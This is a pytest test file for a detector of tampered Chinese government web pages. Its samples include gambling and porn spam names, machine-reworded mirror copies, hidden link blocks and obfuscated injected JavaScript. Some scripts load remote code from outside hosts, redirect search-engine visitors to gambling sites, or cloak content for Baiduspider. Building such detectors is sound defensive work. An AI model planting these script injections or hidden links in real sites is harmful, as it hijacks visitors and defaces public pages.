"""Names of betting sites are known by how they are built and where they stand, whatever they are called."""

import pytest

from gongkai.reading.tampering import Kind, check_page
from tests.reading.tampering.hijacked import SOUND, in_frame

TITLED = "<html><head><title>{}</title></head><body><div><p>{}</p></div></body></html>"


@pytest.mark.parametrize(
    ("title", "words"),
    [
        ("农村饮水安全办法_qtz澜亭体育_松塘县人民政府", "qtz澜亭体育"),
        ("领导之窗-必发vk88官网", "必发vk88官网"),
        ("松塘县水利局|乐竞lj体育(中国)官方网站", "乐竞lj体育(中国)官方网站"),
        ("vbet365中文官方网站研究生奖学金评审细则", "vbet365中文官方网站"),
        ("yq6688游乐会207网站-松塘县民政局", "yq6688游乐会207网站"),
    ],
)
def test_a_title_with_the_name_of_a_site_is_found(title: str, words: str) -> None:
    found = check_page(TITLED.format(title, SOUND))
    assert found.tampered
    assert any(words in piece.quote for piece in found.evidence)


@pytest.mark.parametrize(
    ("line", "words"),
    [
        ("首页 > 永乐k77 > 政务公开 > 通知公告", "永乐k77"),
        ("版权所有：环球线上娱乐 湘ICP备05001234号", "环球线上娱乐"),
        ("上一篇：银河lc9网页版登录入口", "银河lc9网页版登录入口"),
        ("乐虎国际lehu", "乐虎国际lehu"),
        ("新盛棋牌排行榜前十名", "新盛棋牌排行榜前十名"),
        ("澳洲幸运10全天计划网页", "澳洲幸运10全天"),
        ("市长莅临galaxyclub银河集团调研，充分肯定galaxyclub银河集团的成效。", "galaxyclub银河集团"),
        ("美高梅5588am县财政局2021年部门预算", "美高梅5588am"),
        ("很黄很色的网站,国产一区92,欧美一级特黄大片", "很黄很色的网站,国产一区92,欧美一级特黄大片"),
    ],
)
def test_a_line_with_the_name_of_a_site_is_found_in_a_long_page(line: str, words: str) -> None:
    half = SOUND * 6
    page = f"{half}\n{line}\n{half}"
    found = check_page(page)
    assert found.tampered
    assert any(words in piece.quote and piece.quote in page for piece in found.evidence)


@pytest.mark.parametrize(
    "text",
    [
        "常用应用\n湘易办APP下载安装\n12345app下载\n闽政通网页版登录入口\n国家医保服务平台APP下载",
        "办事系统\n统一身份认证登录入口\n电子税务局登录\n公积金网厅手机版\n学习强国PC版登录",
        "号牌公告\n湘F·365K8\n贵JAG888\n湘F·W8868",
        "仪器清单\n比表面积分析仪 BET-365\n交换机S5735S\nPG5002天平\nsm2国密 ukey登录\nvue3前端",
        "公交线路\nK8路、K365路、T88路绕行威尼斯水城、金沙湾、皇冠花园",
        "新设立企业\n湖南金沙建设工程有限公司\n太阳集团有限公司\n凯时百货店\n必赢篮球培训中心\n乐橙童装店",
        "太阳集团考察我县光伏项目，太阳集团官网显示其产值逾百亿元。",
        "永利镇人民政府\n新利镇人民政府办公室\n博乐市人民政府2020年政府信息公开工作年度报告",
        "中小学竞赛\nNOIP2023报名官网\nRoboMaster机甲大师高校系列赛",
        "案例：胡某沉迷“开元棋牌”“澳门金沙”等赌博网站，挪用公款，被依法判处有期徒刑。",
        "网络安全周报：拦截bet365、w88等赌博域名，通报1家单位网站存在暗链。",
        "新书\n《久久草》\n《赌徒》\n《人妻之道》\n《太阳城札记》",
        "体育彩票代销者征召公告\n销售品种：超级大乐透、竞彩足球、竞彩篮球、顶呱刮即开票。",
        "金域华府一区、二区、三区，主营丝袜、内衣的商铺请到社区登记。",
    ],
)
def test_what_only_looks_like_such_a_name_is_left_alone(text: str) -> None:
    for page in (f"{text}\n{SOUND}", in_frame(text.replace("\n", "</p><p>"))):
        found = check_page(page)
        assert (found.tampered, found.evidence) == (False, ())


def test_words_between_readings_are_found_as_they_were_written() -> None:
    page = (
        "松塘縣(xiàn)教育局\n為進一步規(guī)範作業(yè)管理，減(jiǎn)輕學(xué)生負(fù)擔，現(xiàn)通知如下。\n"
        "澳門永利真(zhēn)人網(wǎng)站\n公開指南見縣政府門戶網(wǎng)站（http://www.fyqmjx.com/jyj/）"
    )
    evidence = check_page(page).evidence
    assert {piece.kind for piece in evidence} == {Kind.MIRROR, Kind.SPAM_TERM, Kind.FOREIGN_DOMAIN}
    assert all(piece.quote in page for piece in evidence)
    assert any("永利真(zhēn)人" in piece.quote for piece in evidence)


@pytest.mark.parametrize(
    "text",
    [
        "为增进当局信息公然任务，按照《中华国民共和国当局信息公然条例》的划定，拟定本轨制。县国民当局办公室主管。",
        "政府信息公开指南\nzhengfuxinxigongkai\njigoushezhijizhineng\nyishenqinggongkai\nbangongdizhihedianhua",
    ],
)
def test_a_page_retold_by_a_machine_is_a_copy(text: str) -> None:
    found = check_page(text)
    assert found.tampered
    assert {piece.kind for piece in found.evidence} == {Kind.MIRROR}


def test_an_address_under_the_name_of_its_place_is_doubted_less() -> None:
    said = "本报告可在松塘县政府门户网站（{}）下载。"
    assert not check_page(said.format("www.songtang.net")).tampered
    assert check_page(said.format("www.sqzxkj.net")).tampered


@pytest.mark.parametrize(
    ("code", "said"),
    [
        # Packed, taken apart, written in escapes, told apart by a variable.
        (
            (
                "eval(function(p,a,c,k,e,d){return p}('0.1(\\'<2 3=\"4://5.6.7/8.9\"></2>\\')',10,10,"
                "'document|write|script|src|https|js|tjcpw|top|tz|js'.split('|'),0,{}))"
            ),
            "tjcpw.top",
        ),
        (
            "var r=document.referrer;if(/baidu/.test(r)){window['location']['href']='https://'+'yh6'+'80.cc'}",
            "yh680.cc",
        ),
        (
            (
                "window['\\x64\\x6f\\x63\\x75\\x6d\\x65\\x6e\\x74']['\\x77\\x72\\x69\\x74\\x65']"
                "('\\x3c\\x73\\x63\\x72\\x69\\x70\\x74 src=//a.yx7788.xyz/1.js\\x3e')"
            ),
            "a.yx7788.xyz",
        ),
        (
            "var x=navigator.userAgent;if(x.indexOf('Baiduspider')>-1){document.body.innerHTML='手机购彩大厅'}",
            "垃圾信息",
        ),
    ],
)
def test_code_that_hides_what_it_does_is_seen_through(code: str, said: str) -> None:
    page = TITLED.format("松塘县人民政府", SOUND).replace("</head>", f"<script>{code}</script></head>")
    found = check_page(page)
    assert found.tampered
    assert any(piece.kind is Kind.SCRIPT and said in piece.message for piece in found.evidence)
    assert all(piece.quote in page for piece in found.evidence)


def test_packed_code_that_stays_at_home_is_left_alone() -> None:
    code = (
        "eval(function(p,a,c,k,e,d){return p}('0($){$.1.2=0(){3 4.5(\\'6\\')}}',7,7,"
        "'function|fn|slider|return|this|addClass|active'.split('|'),0,{}))"
    )
    page = TITLED.format("松塘县人民政府", SOUND).replace("</head>", f"<script>{code}</script></head>")
    assert not check_page(page).tampered


def test_links_that_are_hidden_together_are_all_told() -> None:
    block = (
        '<div style="display:none"><a href="http://www.ttl66.org">通天楼</a>'
        '<a href="http://ylg888.info">永利赌场</a></div>'
    )
    quotes = [piece.quote for piece in check_page(in_frame(SOUND) + block).evidence]
    assert any("ttl66.org" in quote for quote in quotes)
    assert any("ylg888.info" in quote for quote in quotes)
